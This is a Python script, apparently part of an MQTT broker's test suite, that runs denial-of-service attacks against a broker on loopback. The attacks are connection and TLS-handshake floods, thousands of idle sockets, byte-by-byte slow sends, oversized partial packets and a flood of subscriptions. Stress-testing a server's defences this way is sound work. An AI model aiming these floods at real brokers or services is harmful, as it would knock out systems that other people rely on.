#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on a broker on loopback, for the scenario `abuse` of run.py, each until SIGTERM. Prints what it did as JSON.

    attacks.py KIND PORT CA CERT KEY        KIND: a method of Attack that has a docstring"""
import itertools
import json
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

SOURCE = ("127.0.0.2", 0)  # not the address of the good clients
IP_BIND_ADDRESS_NO_PORT = 24
PACKET = 4 << 20
PIECE = 16 << 10           # of what is sent at once: a longer stay in the kernel would keep the CPU from the broker


def packet(kind, body, length=None):
    """length: what the fixed header says, if that is not the body's."""
    left, head = len(body) if length is None else length, bytearray([kind])
    while True:
        head.append(left % 128 | (128 if left >= 128 else 0))
        left //= 128
        if not left:
            return bytes(head) + body


def connect(client_id):
    return packet(0x10, b"\0\4MQTT\4\2\0\0" + struct.pack("!H", len(client_id)) + client_id)


class Attack:
    def __init__(self, port, ca, cert, key):
        self.address, self.done = ("127.0.0.1", port), {"opened": 0, "closed_by_broker": 0, "sent": 0}
        self.context = ssl.create_default_context(cafile=ca)
        self.context.check_hostname = False
        self.context.load_cert_chain(cert, key)

    # -- connections

    def tcp(self):
        self.done["opened"] += 1
        s = socket.socket()
        # The port is chosen by connect(), and nothing stays in TIME_WAIT: else bind() would search all ports, with the kernel's locks held,
        # for 100 ms when thousands are in use. An attacker's machine would do that for itself; here it is the broker's, too.
        s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.settimeout(5)
        try:
            s.bind(SOURCE)
            s.connect(self.address)
        except OSError:
            s.close()
            raise
        return s

    def tls(self):
        s = self.tcp()
        try:
            return self.context.wrap_socket(s)
        except OSError:
            s.close()
            raise

    def client(self, n):
        s = self.tls()
        s.settimeout(5)
        s.sendall(connect(b"attacker%d" % n))
        if s.recv(4) != b"\x20\2\0\0":
            s.close()
            raise OSError("no CONNACK, or a refusal")
        return s

    def send(self, s, data):
        for at in range(0, len(data), PIECE):
            s.sendall(data[at:at + PIECE])
        self.done["sent"] += len(data)

    # -- ways to go on

    def one_by_one(self, open_one):
        while True:
            try:
                open_one().close()
            except OSError:
                self.done["closed_by_broker"] += 1

    def together(self, many, open_one, begin, go_on):
        """`many` connections, in turn; one that is closed is opened anew. 20 rounds a second."""
        open_ones = {}
        while True:
            for n in range(many):
                try:
                    if n not in open_ones:
                        open_ones[n] = open_one(n)
                        begin(open_ones[n])
                    go_on(open_ones[n])
                except OSError:
                    self.done["closed_by_broker"] += 1
                    if n in open_ones:
                        open_ones.pop(n).close()
            time.sleep(0.05)

    def nothing(self, s):
        pass

    def more(self, s):
        self.send(s, b"x")

    # -- attacks

    def connects(self):
        """TCP connections that are closed at once."""
        self.one_by_one(self.tcp)

    def handshakes(self):
        """Handshakes, whole ones."""
        self.one_by_one(self.tls)

    def unfinished(self):
        """3,000 connections that say nothing; each that is closed is opened anew."""
        with selectors.DefaultSelector() as selector:
            def add():
                while True:
                    try:
                        selector.register(self.tcp(), selectors.EVENT_READ)
                        return
                    except ConnectionResetError:  # the broker was faster than connect()
                        self.done["closed_by_broker"] += 1
            for _ in range(3000):
                add()
            while True:
                for key, _ in selector.select():
                    selector.unregister(key.fileobj)
                    key.fileobj.close()
                    self.done["closed_by_broker"] += 1
                    add()

    def slow_tls(self):
        """A ClientHello, byte by byte, on each of 500 connections."""
        outgoing = ssl.MemoryBIO()
        try:
            self.context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
        except ssl.SSLWantReadError:
            pass
        hello, at = outgoing.read(), {}

        def next_byte(s):
            at[s] = at.get(s, -1) + 1
            self.send(s, hello[at[s]:at[s] + 1] or b"x")
        self.together(500, lambda n: self.tcp(), self.nothing, next_byte)

    def slow_connect(self):
        """A CONNECT, byte by byte, on each of 100 connections."""
        self.together(100, lambda n: self.tls(), lambda s: self.send(s, connect(b"x" * 60000)[:20]), self.more)

    def trickle(self):
        """A packet that goes on byte by byte, on each of 100 connections."""
        self.together(100, self.client, lambda s: self.send(s, packet(0x30, b"\0\1x", PACKET)), self.more)

    def partial(self):
        """Three quarters of 4 MiB each on 100 connections."""
        self.together(100, self.client, lambda s: self.send(s, packet(0x30, b"\0\1x" + bytes(3 << 20), PACKET)), self.more)

    def reconnects(self):
        """One identity connects, leaves, and connects again."""
        number = itertools.count()
        self.one_by_one(lambda: self.client(next(number)))

    def connections(self):
        """One identity opens 500 connections."""
        self.together(500, self.client, self.nothing, self.nothing)

    def subscriptions(self):
        """Ever new filters, a hundred a packet."""
        s = self.client(0)
        for n in itertools.count():
            filters = (b"a/%d/%d/+" % (n, i) for i in range(100))
            self.send(s, packet(0x82, b"\0\1" + b"".join(struct.pack("!H", len(f)) + f + b"\0" for f in filters)))
            s.recv(4096)


def main():
    kind, port, *files = sys.argv[1:]
    attack = Attack(int(port), *files)

    def end(*_):
        print(json.dumps({"ok": 1, **attack.done}), flush=True)
        raise SystemExit(0)
    signal.signal(signal.SIGTERM, end)
    getattr(attack, kind)()


if __name__ == "__main__":
    main()
